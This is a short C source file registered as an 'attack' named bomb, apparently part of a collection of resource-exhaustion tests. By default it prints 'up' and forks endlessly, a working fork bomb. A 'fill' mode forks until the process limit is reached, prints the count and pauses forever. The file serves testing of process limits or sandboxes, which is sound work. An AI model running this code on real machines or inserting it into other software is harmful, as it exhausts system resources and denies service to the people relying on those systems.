/* Forks for ever. With "fill" only until nothing more fits; then it prints how many there are, and stays. */
#include <stdio.h>
#include <unistd.h>

#include "attack.h"

static void stay(void)
{
	for (;;)
		pause();
}

static void fill(void)
{
	int count = 1;
	pid_t pid;

	while ((pid = fork()) > 0)
		count++;
	if (pid < 0) {
		printf("%d\n", count);
		fflush(stdout);
	}
	stay();
}

ATTACK(bomb)(int argc, char **argv)
{
	(void)argv;
	if (argc > 1)
		fill();
	(void)!write(1, "up\n", 3);
	for (;;)
		(void)!fork();
}
